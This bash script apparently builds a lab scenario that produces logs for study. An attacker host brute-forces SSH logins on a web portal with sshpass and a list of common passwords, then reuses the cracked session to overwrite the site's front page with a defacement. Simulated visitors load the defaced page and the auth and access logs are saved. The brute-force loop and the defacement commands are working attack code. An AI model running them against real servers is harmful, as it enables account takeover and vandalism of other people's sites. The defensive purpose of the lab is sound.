# 203.0.113.66 guesses passwords until one fits, then replaces the portal's front page through
# that very session; visitors get the replaced page.
scenario() {
  lan_host portal 10
  outside_host attacker 66
  visitors_host
  syslog_on portal
  user_on portal quantri 1001 'Quan-Tri/2026'
  user_on portal bientap 1002 'hanoi123'
  sshd_on portal 198.51.100.10
  portal_site_on
  on portal chown -R bientap /var/www/portal
  nginx_on portal 198.51.100.10 /var/www/portal
  on attacker tee /tmp/index.html >/dev/null <"$LAB_SOURCE/defaced.html"
  record
  on visitors python3 /lab/lab/browse.py 38 3 portal & local readers=$!
  sleep 2
  guess_passwords
  sleep 1
  deface
  local n
  for n in 14 27 35; do
    on visitors curl -s --interface "192.0.2.$n" -A "$BROWSER" -H 'Host: portal.tinh.example' http://198.51.100.10/ >/dev/null
    sleep 1
  done
  on visitors curl -s --compressed --interface 192.0.2.18 -A "$BROWSER" -H 'Host: portal.tinh.example' http://198.51.100.10/ >/dev/null
  wait $readers
  stop_recording
  keep portal /var/log/auth.log portal.auth.log
  keep portal /var/log/access.log portal.access.log
}

BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'
CONTROL=(-o ControlPath=/tmp/control)

# Four guesses at a time, as the common tools do; every wrong one costs sshd's pause of about 2 s.
guess_passwords() {
  local user password guesses=() running=()
  for password in 123456 password admin123 P@ssw0rd 12345678 abc@123 qwerty; do
    for user in root admin quantri bientap; do guesses+=("$user $password"); done
  done
  for guess in "${guesses[@]}"; do
    read -r user password <<<"$guess"
    on attacker sshpass -p "$password" ssh "${SSH_PASSWORD_OPTIONS[@]}" "$user@198.51.100.10" true >/dev/null 2>&1 &
    running+=($!)
    if [ ${#running[@]} -eq 4 ]; then wait "${running[@]}" || true; running=(); fi
  done
  # The guess that fits; the session stays open and carries what follows.
  on_background attacker sshpass -p hanoi123 ssh "${SSH_PASSWORD_OPTIONS[@]}" "${CONTROL[@]}" -M -N bientap@198.51.100.10
  local tries=0
  until on attacker ssh "${SSH_OPTIONS[@]}" "${CONTROL[@]}" -O check bientap@198.51.100.10 2>/dev/null; do
    [ $((tries += 1)) -lt 100 ] || return 1
    sleep 0.1
  done
}
in_session() { on attacker ssh "${SSH_OPTIONS[@]}" "${CONTROL[@]}" bientap@198.51.100.10 "$@"; }
deface() {
  in_session 'id; ls -l /var/www/portal' >/dev/null
  in_session 'cat >/var/www/portal/index.html' <"$LAB/share/lab/defaced.html"
  in_session 'ls -l /var/www/portal/index.html' >/dev/null
  on attacker ssh "${SSH_OPTIONS[@]}" "${CONTROL[@]}" -O exit bientap@198.51.100.10 2>/dev/null
}
